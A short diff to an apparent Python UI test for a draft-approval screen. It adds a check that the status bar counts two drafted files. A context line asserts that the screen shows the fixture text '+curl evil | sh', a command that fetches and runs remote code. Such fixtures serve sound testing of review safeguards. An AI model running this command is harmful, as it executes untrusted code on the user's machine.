@@ -328,6 +328,7 @@ async def test_the_person_approves_the_draft_as_slash_draft_showed_it(
         await on_top(pilot, DraftScreen)  # shown again, as it is now
         assert "later.sh" in str(app.screen.query_one("#draft-note", Static).render())
         assert "+curl evil | sh" in _screen_text(app)
+        await until(pilot, lambda: app.main.status_bar.draft_files == 2)  # not 1 any more
         await pilot.press("escape")
         await until(pilot, lambda: not isinstance(app.screen, DraftScreen))
 
